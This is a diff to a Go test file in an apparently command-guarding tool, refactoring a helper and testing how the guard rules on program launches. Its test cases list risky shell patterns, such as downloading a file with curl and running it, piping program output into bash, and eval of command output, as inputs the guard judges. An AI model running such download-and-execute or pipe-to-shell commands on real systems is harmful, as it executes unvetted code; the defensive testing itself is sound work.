@@ -5,9 +5,6 @@ import (
 	"strings"
 	"testing"
 
-	"longline/internal/command"
-	"longline/internal/guard"
-	"longline/internal/policy"
 	"longline/internal/tool"
 )
 
@@ -35,19 +32,6 @@ func projectWorld() *tool.World {
 		},
 		Exists: func(path string) bool { _, ok := files[path]; return ok },
 	}
-}
-
-func projectGuard(t *testing.T) *guard.Guard {
-	t.Helper()
-	packs, err := policy.BuiltinFile()
-	if err != nil {
-		t.Fatal(err)
-	}
-	set, _, err := policy.Merge(packs, nil, nil, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return &guard.Guard{Library: command.Builtin(), Policy: set}
 }
 
 // TestLikeThingsAlike: who starts a program makes no difference, where it comes from
@@ -96,7 +80,7 @@ func TestLikeThingsAlike(t *testing.T) {
 		{"unpacked", "tar xf a.tar -C sub && ", "./sub/", tool.Ask, false},
 		{"downloaded", "curl -so F https://example.com/F && ", "./", tool.Deny, false},
 	}
-	g := projectGuard(t)
+	g := builtin(t)
 	for _, p := range places {
 		for _, l := range launchers {
 			w := projectWorld()
@@ -115,7 +99,7 @@ func TestLikeThingsAlike(t *testing.T) {
 
 // TestOutputOfProjectCode: that code of the project may run does not say what it prints.
 func TestOutputOfProjectCode(t *testing.T) {
-	g := projectGuard(t)
+	g := builtin(t)
 	for _, run := range []string{"./tool", "./gen", "python3 tool.py", "node tool.js", "python3 -m app", "npm run gen", "go run .", "make gen", "npx tsx tool.ts"} {
 		for _, script := range []string{
 			run + " | bash", run + " | sh -s x", `eval "$(` + run + `)"`, run + " > z.sh; bash z.sh", run + " > z.sh; . ./z.sh",
